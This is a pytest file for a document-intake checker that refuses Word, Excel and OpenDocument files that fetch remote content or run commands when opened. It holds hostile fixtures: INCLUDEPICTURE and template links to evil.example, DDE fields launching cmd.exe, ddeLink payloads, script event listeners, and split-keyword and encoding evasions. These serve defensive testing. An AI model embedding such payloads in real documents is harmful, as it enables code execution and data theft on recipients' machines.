"""S30 and S33: documents that fetch or start something when they are opened."""

from __future__ import annotations

import time

import pytest

from crm.files.intake import check
from tests.files import samples
from tests.files.samples import refused

RELATION = (
    '<Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    'Target="http://evil.example/x" TargetMode="{}"/>'
)
TEXT = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>{}</w:p></w:body>'
    "</w:document>"
)
OPEN = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
    'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink">{}</office:document-content>'
)


def simple(words: str) -> str:
    return f'<w:fldSimple w:instr=" {words} "/>'


def piecewise(*pieces: str) -> str:
    texts = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{texts}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>seen</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


@pytest.mark.parametrize("name", ["word/_rels/settings.xml.rels", "word/_rels/settings.xml.RELS", "word/_RELS/a.Rels"])
@pytest.mark.parametrize("kind", ["attachedTemplate", "aFChunk", "video", "mailMergeSource", "externalLinkPath"])
def test_s30_only_a_link_leads_out_of_a_document(name: str, kind: str) -> None:
    for mode in ("External", "external"):
        relation = samples.RELS.format(RELATION.format(kind, mode))
        assert "fetches" in refused(samples.docx({name: relation}), "a.docx")
        wide = relation.encode("utf-16")
        assert "fetches" in refused(samples.docx({name: wide}), "a.docx")
    assert check(samples.docx({name: samples.RELS.format(RELATION.format("hyperlink", "External"))}), "a.docx")


def test_s30_what_a_document_is_stands_under_a_name_in_any_case() -> None:
    types = samples.TYPES.replace("</Types>", '<Override ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    content = samples.archive({"[CONTENT_TYPES].xml": types, "word/document.xml": "<a/>"})
    assert "macros" in refused(content, "a.docx")


@pytest.mark.parametrize("part", ["word/header1.xml", "word/footnotes.xml", "word/other.bin"])
@pytest.mark.parametrize(
    "field",
    [
        simple("INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \\d"),
        simple("dde&#97;uto c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"),
        simple("IncludeText &quot;\\\\\\\\evil\\\\a.docx&quot;"),
        piecewise("DDE", "AUTO", " cmd.exe"),
        piecewise(" D", "<!-- -->D", "E cmd.exe"),
        piecewise(" IF 1 = 1 ") + piecewise(" LINK Word.Document.8 a"),
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{piecewise(" DATABASE ")}',
        "<w:r><w:instrText> RD a.docx </w:instrText></w:r>",
    ],
)
def test_s30_no_field_of_a_text_fetches_anything(part: str, field: str) -> None:
    body = TEXT.format(field)
    assert "fetches" in refused(samples.docx({part: body}), "a.docx")
    assert "fetches" in refused(samples.docx({part: body.encode("utf-16")}), "a.docx")


def test_s30_other_fields_stay() -> None:
    for words in ("PAGE", "TOC \\o &quot;1-3&quot;", "HYPERLINK &quot;https://www.opcw.org/&quot;", "MERGEFIELD DDE"):
        assert check(samples.docx({"word/header1.xml": TEXT.format(simple(words) + piecewise(words))}), "a.docx")


@pytest.mark.parametrize(
    "part",
    [
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        '<x:externalLink xmlns:x="a"><x:oleLink/></x:externalLink>',
        '<connections><connection id="1" refreshOnLoad="&#49;"/></connections>',
        '<connections><connection id="1"><webPr url="http://evil.example/"/></connection></connections>',
    ],
)
def test_s30_no_workbook_asks_others_by_itself(part: str) -> None:
    types = samples.TYPES.replace("wordprocessingml.document", "spreadsheetml.sheet")
    assert "fetches" in refused(samples.docx({"xl/a.xml": part}, types=types), "a.xlsx")
    pivot = '<pivotCacheDefinition refreshOnLoad="1"/>'
    assert check(samples.docx({"xl/a.xml": pivot}, types=types), "a.xlsx")


@pytest.mark.parametrize("part", ["content.xml", "styles.xml", "Object 1/content.xml"])
@pytest.mark.parametrize(
    ("inside", "why"),
    [
        ('<draw:image xlink:href="http://evil.example/x.png" xlink:actuate="onLoad"/>', "fetches"),
        ('<draw:image xlink:href="&#47;&#47;evil.example/x.png"/>', "fetches"),
        ('<draw:object xlink:href="file://evil.example/share/a.odt"/>', "fetches"),
        ('<text:section-source xlink:href="../../secret.odt"/>', "fetches"),
        ('<text:dde-connection-decl office:dde-application="soffice"/>', "fetches"),
        ('<meta:template xlink:href="https://evil.example/a.ott"/>', "fetches"),
        ('<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>', "programs"),
        ('<office:scripts><office:script script:language="x"/></office:scripts>', "programs"),
        ('<presentation:event-listener presentation:action="execute"/>', "programs"),
        ("<text:execute-macro/>", "programs"),
    ],
)
def test_s30_an_open_document_fetches_and_starts_nothing(part: str, inside: str, why: str) -> None:
    body = OPEN.format(inside)
    assert why in refused(samples.odt({part: body}), "a.odt")
    assert why in refused(samples.odt({part: body.encode("utf-16")}), "a.odt")


def test_s30_what_is_clicked_or_inside_an_open_document_stays() -> None:
    for inside in (
        '<text:a xlink:href="https://www.opcw.org/">a</text:a>',
        '<draw:image xlink:href="Pictures/1.png" xlink:actuate="onLoad"/>',
        '<draw:object xlink:href="./Object 1"/>',
        '<meta:template xlink:href="file:///C:/Templates/Ministry.ott"/>',
        '<meta:template xlink:href="../../Templates/Ministry.ott"/>',
        '<presentation:event-listener script:event-name="dom:click" presentation:action="next-page"/>',
        "<office:scripts/>",
    ):
        assert check(samples.odt({"content.xml": OPEN.format(inside)}), "a.odt")


def test_s30_nothing_hides_behind_another_writing() -> None:
    hidden = TEXT.format(simple("DDE cmd"))
    for written in (
        f'<?xml version="1.0" encoding="UTF-7"?>{hidden}',
        hidden.replace("<w:document", '<!DOCTYPE a [<!ENTITY b "DDE">]><w:document', 1).replace("DDE cmd", "&b; cmd"),
        hidden.replace("<w:p>", "<w:p", 1),
    ):
        assert "damaged" in refused(samples.docx({"word/a.xml": written}), "a.docx")


def test_s36_a_large_sheet_of_words_is_not_taken_apart() -> None:
    types = samples.TYPES.replace("wordprocessingml.document", "spreadsheetml.sheet")
    rows = "".join(f'<row r="{number}"><c><v>{number * 7919}</v></c></row>' for number in range(800_000))
    sheet = f'<?xml version="1.0" encoding="UTF-8"?><sheetData>{rows}<c>Instructions for instruments</c></sheetData>'
    assert check(samples.docx({"xl/worksheets/sheet1.xml": sheet}, types=types), "a.xlsx")


def test_s36_looking_at_a_document_takes_seconds_at_most() -> None:
    begun = time.process_time()
    many = TEXT.format(simple("PAGE") + "<a/>" * 5_000_000)
    assert check(samples.docx({"word/a.xml": TEXT.format("<a/>" * 10_000)}), "a.docx")
    assert refused(samples.docx({"word/a.xml": many * 2, "word/b.xml": many}), "a.docx")
    assert time.process_time() - begun < 20
